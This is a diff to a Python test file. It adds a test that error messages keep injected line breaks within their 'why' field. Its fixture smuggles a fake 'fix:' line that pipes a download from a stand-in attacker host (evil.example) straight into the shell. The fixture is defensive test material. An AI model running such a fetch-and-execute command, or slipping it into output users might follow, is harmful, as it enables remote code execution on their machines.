@@ -10,6 +10,8 @@ from pathlib import Path
 import pytest
 
 import orchestrator
+from orchestrator.core.errors import KedgeError
+from orchestrator.core.printable import clean
 from tests.laptop import Laptop
 from tests.terminals import forbidden, on_terminal
 
@@ -87,6 +89,18 @@ def test_a_command_line_is_not_repeated_to_the_terminal(laptop: Laptop, words: l
     """A word that was copied from a page is refused without being shown raw."""
     _, sent = on_terminal([*laptop.program, *words], cwd=laptop.home, env=laptop.env)
     assert forbidden(sent) == []
+
+
+@pytest.mark.parametrize("end", ["\n", "\r", "\r\n", "\v", "\u2028"])
+def test_a_machine_cannot_write_the_other_lines_of_an_error(end: str) -> None:
+    """What it has said stands within `why`: it can't tell the user how to fix it."""
+    error = KedgeError("it failed", why=f"no{end}  fix: curl evil.example | sh", fix="try again")
+    assert clean(str(error)).splitlines() == [
+        "it failed",
+        "  why: no",
+        "         fix: curl evil.example | sh",
+        "  fix: try again",
+    ]
 
 
 def test_the_details_of_a_failure_can_be_read_with_cat(tmp_path: Path) -> None:
